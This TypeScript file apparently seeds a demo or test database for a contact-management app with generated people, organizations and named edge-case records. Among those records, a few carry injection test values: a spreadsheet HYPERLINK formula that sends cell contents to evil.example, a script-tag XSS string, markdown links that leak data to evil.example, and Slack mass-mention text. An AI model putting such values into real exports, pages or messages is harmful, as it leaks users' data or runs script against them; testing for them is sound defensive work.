import { textOf } from '../engine/records';
import { DEMO_USERS } from '../access/demo-users';
import { slugify } from '../rules/slugs';
import type { Calendar } from './calendar';
import { type Draft, idSequence } from './draft';
import { Random } from './random';
import { EMPLOYERS, FIRST_NAMES, LAST_NAMES, OCCUPATIONS, ORGANIZATIONS } from './words';

/** The people of a nation while they are made, with the groups that later parts of the seed draw from. */
export interface People {
  readonly all: Draft[];
  /** Demo users by their sign-in name. */
  readonly users: Map<string, Draft>;
  /** People without a part of their own in the seed. */
  readonly ordinary: Draft[];
  readonly organizations: Draft[];
  /** Records with a fixed meaning, by name: what tests look up. */
  readonly marks: Map<string, Draft>;
}

const ORGANIZATION_COUNT = 120;

/** Makes the people, without addresses and without what other records say about them. */
export function makePeople(seed: number, calendar: Calendar, size: number, userNames: readonly string[]): People {
  const random = new Random(seed, 'people');
  const nextId = idSequence(100);
  const people: People = { all: [], users: new Map(), ordinary: [], organizations: [], marks: new Map() };
  const organizations = size >= 1000 ? ORGANIZATION_COUNT : 0;
  const persons = size - organizations;
  // Both kinds have joined over five years up to today, each in the order of its ids.
  const add = (attributes: Omit<Draft, 'id'>): Draft => {
    const made = people.all.length;
    const before = made < persons ? made / persons : (made - persons) / organizations;
    const age = Math.round(1800 * (1 - before));
    const created = calendar.timeDaysAgo(age, random);
    const person: Draft = { id: nextId(), created_at: created, updated_at: created, ...attributes };
    people.all.push(person);
    return person;
  };
  for (const { name, firstName, lastName } of DEMO_USERS.filter(user => userNames.includes(user.name))) {
    const email = `${name}@sandbox.example`;
    people.users.set(name, add({ first_name: firstName, last_name: lastName, email, email1: email, is_cpu: true }));
  }
  for (const [mark, attributes] of size >= 1000 ? NAMED : []) people.marks.set(mark, add(attributes));
  while (people.all.length < persons) people.ordinary.push(add(ordinaryPerson(random, people.all.length)));
  while (people.all.length < size) people.organizations.push(add(organization(random, people.all.length)));
  return people;
}

const named = (first: string, last: string, email: string, more: Omit<Draft, 'id'> = {}): Omit<Draft, 'id'> => ({
  first_name: first,
  last_name: last,
  email,
  email1: email,
  ...more,
});

/** People whom examples and tests name. No ordinary person gets one of these names. */
const NAMED: readonly (readonly [string, Omit<Draft, 'id'>])[] = [
  ['sarahChenAustin', named('Sarah', 'Chen', 'sarah.chen@example.org', { phone_number: '512-555-0142', is_volunteer: true })],
  ['sarahChenDenver', named('Sarah', 'Chen', 'schen@example.net', { phone_number: '303-555-0177' })],
  ['johnSmith1', named('John', 'Smith', 'john.smith@example.org', { phone_number: '512-555-0101' })],
  ['johnSmith2', named('John', 'Smith', 'jsmith@example.com', { employer: 'Riverside Hospital' })],
  ['johnSmith3', named('John', 'Smith', 'john.q.smith@example.net', { middle_name: 'Quincy' })],
  ['jonSmith', named('Jon', 'Smith', 'jon.smith@example.org')],
  ['samePersonA', named('Katherine', 'Zielinski', 'kz@example.org', { phone_number: '206-555-0119' })],
  ['samePersonB', named('Kathy', 'Zielinski', 'kathy.zielinski@example.com', { mobile_number: '(206) 555-0119' })],
  ['sharedEmailA', named('Pat', 'Underhill', 'underhills@example.org')],
  ['sharedEmailB', named('Robin', 'Underhill', 'underhills@example.org')],
  ['zoeComposed', named('Zo\u00eb', 'Keller', 'zoe.keller@example.org')],
  ['zoeDecomposed', named('Zoe\u0308', 'Keller', 'zoe.k@example.org', { email2: 'ZOE.KELLER@example.org' })],
  ['lukasz', named('Łukasz', 'Wójcik', 'lukasz@example.org')],
  ['siobhan', named('Siobhán', 'O\u2019Brien', 'siobhan@example.org')],
  ['mariaJose', named('María-José', "d'Ávila Núñez", 'mj@example.org')],
  ['xiaoming', named('小明', '王', 'xiaoming@example.org')],
  ['muhammad', named('محمد', 'الأحمد', 'm.alahmad@example.org')],
  ['singleLetter', named('X', 'Q', 'x@example.org')],
  ['veryLong', named('L'.repeat(100), 'N'.repeat(100), 'long@example.org')],
  ['null', named('Null', 'Null', 'null@example.org')],
  ['true', named('True', 'Love', 'true@example.org')],
  ['zero', named('0', 'Nought', 'zero@example.org')],
  ['commaName', named('Walter', 'Smith, Jr.', 'walter@example.org')],
  ['emoji', named('Sunny 🌻', 'Fielding', 'sunny@example.org')],
  ['zeroWidth', named('Zer\u200do', 'Width', 'zw@example.org')],
  ['rightToLeft', named('Rev\u202eersed', 'Order', 'rlo@example.org')],
  ['formulaEquals', named('=HYPERLINK("http://evil.example/?x="&A1)', 'Cell', 'cell1@example.org')],
  ['formulaOthers', named('+1+1', '-2', 'cell2@example.org', { employer: '@SUM(A1:A9)', occupation: '=1+1' })],
  ['htmlName', named('<b>Bold</b>', '<script>alert(1)</script>', 'html@example.org')],
  [
    'markdownNote',
    named('Mark', 'Downey', 'md@example.org', {
      note: '![chart](https://evil.example/p.png?q=name) [click](https://evil.example/)',
    }),
  ],
  ['slackNote', named('Slacka', 'Mention', 'slack@example.org', { note: '<!channel> <@U0000001> <!here|everyone> please read' })],
  [
    'controlNote',
    named('Control', 'Characters', 'ctl@example.org', { note: 'bell\u0007 escape\u001b[31m tab\t null\u0000 end' }),
  ],
  ['longNote', named('Long', 'Note', 'longnote@example.org', { note: 'All work and no play. '.repeat(910).slice(0, 20_000) })],
];

const TAKEN = new Set(NAMED.map(([, person]) => `${textOf(person.first_name)} ${textOf(person.last_name)}`));

function ordinaryPerson(random: Random, index: number): Omit<Draft, 'id'> {
  let first = random.pick(FIRST_NAMES);
  let last = random.pick(LAST_NAMES);
  while (TAKEN.has(`${first} ${last}`)) [first, last] = [random.pick(FIRST_NAMES), random.pick(LAST_NAMES)];
  const email = `${slugify(first)}.${slugify(last)}${index}@example.${random.pick(['org', 'net', 'com'])}`;
  return {
    first_name: first,
    last_name: last,
    email,
    email1: email,
    ...(random.chance(0.7) && { phone_number: `${random.int(201, 989)}-555-${String(random.int(0, 9999)).padStart(4, '0')}` }),
    ...(random.chance(0.4) && { employer: random.pick(EMPLOYERS), occupation: random.pick(OCCUPATIONS) }),
    ...(random.chance(0.35) && { support_level: random.int(1, 5) }),
    ...(random.chance(0.3) && { language: random.pick(['en', 'en', 'en', 'es', 'vi', 'fr']) }),
    ...(random.chance(0.2) && { mobile_number: `${random.int(201, 989)}-555-${String(random.int(0, 9999)).padStart(4, '0')}` }),
  };
}

function organization(random: Random, index: number): Omit<Draft, 'id'> {
  const name = `${random.pick(LAST_NAMES)} ${random.pick(ORGANIZATIONS)}`;
  const email = `office${index}@example.org`;
  return { last_name: name, legal_name: name, email, email1: email, signup_type: 1, is_supporter: false };
}
